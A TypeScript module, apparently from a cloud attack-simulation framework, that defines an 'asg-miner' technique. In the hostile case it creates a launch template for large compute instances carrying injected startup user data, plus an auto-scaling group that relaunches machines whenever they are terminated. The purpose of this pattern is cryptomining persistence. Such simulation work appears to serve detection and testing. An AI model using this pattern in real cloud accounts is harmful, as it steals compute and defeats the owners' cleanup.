import type { Act, Technique } from '../technique.ts';
import { startup } from '../words.ts';

async function group(act: Act): Promise<void> {
  const name = act.name(['workers', 'frontends', 'spot-pool']);
  const hostile = !act.by.ip.startsWith('198.');
  const { Images } = await act.call('ec2', 'DescribeImages', { Owners: ['amazon'], Filters: [{ Name: 'name', Values: ['Deep Learning*'] }] });
  const { LaunchTemplate } = await act.call('ec2', 'CreateLaunchTemplate', {
    LaunchTemplateName: name,
    LaunchTemplateData: {
      ImageId: Images[0].ImageId,
      InstanceType: hostile ? 'c5.4xlarge' : 't3.small',
      ...(hostile ? { UserData: Buffer.from(startup(act)).toString('base64') } : {}),
    },
  });
  const id = LaunchTemplate.LaunchTemplateId;
  act.made('AWS::EC2::LaunchTemplate', id, act.arn('ec2', `launch-template/${id}`), { names: [name] });
  const { AvailabilityZones } = await act.call('ec2', 'DescribeAvailabilityZones', {});
  await act.call('auto-scaling', 'CreateAutoScalingGroup', {
    AutoScalingGroupName: name,
    LaunchTemplate: { LaunchTemplateId: id, Version: '$Latest' },
    MinSize: hostile ? 1 : 0,
    MaxSize: 3,
    DesiredCapacity: hostile ? 2 : 0,
    AvailabilityZones: [AvailabilityZones[0].ZoneName],
  });
  act.made('AWS::AutoScaling::AutoScalingGroup', name, '');
}

/** A group that starts his machines anew whenever somebody ends them. */
export const technique: Technique = {
  id: 'asg-miner',
  place: 'region',
  makes: ['AWS::EC2::LaunchTemplate', 'AWS::AutoScaling::AutoScalingGroup'],
  needs: ['ec2:CreateLaunchTemplate', 'ec2:DescribeImages', 'ec2:DescribeAvailabilityZones', 'ec2:RunInstances', 'autoscaling:CreateAutoScalingGroup'],
  play: group,
  innocent: group,
};
